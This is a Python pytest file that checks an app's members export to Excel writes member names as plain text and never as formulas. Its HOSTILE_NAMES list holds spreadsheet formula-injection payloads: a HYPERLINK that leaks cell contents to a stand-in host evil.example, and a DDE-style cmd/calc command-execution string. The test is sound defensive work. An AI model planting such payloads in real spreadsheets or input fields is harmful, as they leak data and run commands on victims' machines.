"""The members export writes what people typed as plain text: a member named like a formula is shown
as that name in Excel, never run as a formula."""

import re
from io import BytesIO

from openpyxl import load_workbook

from app.accounts import services as accounts
from app.extensions import db
from app.tenants import services as tenants
from tests.conftest import form_post, login
from tests.support.demo import palopo  # noqa: F401 - fixture

HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?leak="&B3,"Klik untuk verifikasi")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '\uff1dHYPERLINK("http://evil.example")',  # a full-width equals sign, as an IME types it
    "-2+3",
)


def test_a_member_named_like_a_formula_is_exported_as_that_text(palopo, client):  # noqa: F811
    with palopo.inside():
        for number, name in enumerate(HOSTILE_NAMES):
            user = accounts.create_user(f"formula{number}@kota-palopo.test", name, "a-long-password")
            tenants.add_member(user.id, "viewer", [], actor=palopo.actor)
        db.session.commit()

    login(client, "admin@kota-palopo.demo")
    response = form_post(client, "/t/kota-palopo/jobs", {"kind": "members_export"})
    assert response.status_code == 303
    response.close()  # the job runs once the response has been sent
    page = client.get(response.headers["Location"]).get_data(as_text=True)
    link = re.search(r'href="(/t/kota-palopo/files/[0-9a-f-]+)"', page).group(1)
    workbook = load_workbook(BytesIO(client.get(link).data))

    names = {row[0].value: row[0] for row in workbook.active.iter_rows(min_row=2)}
    for name in HOSTILE_NAMES:
        cell = names[name]  # the exact text, as the member typed it
        assert cell.data_type == "s", f"{name!r} was written as {cell.data_type!r}"
    assert not [c for row in workbook.active.iter_rows() for c in row if c.data_type == "f"]
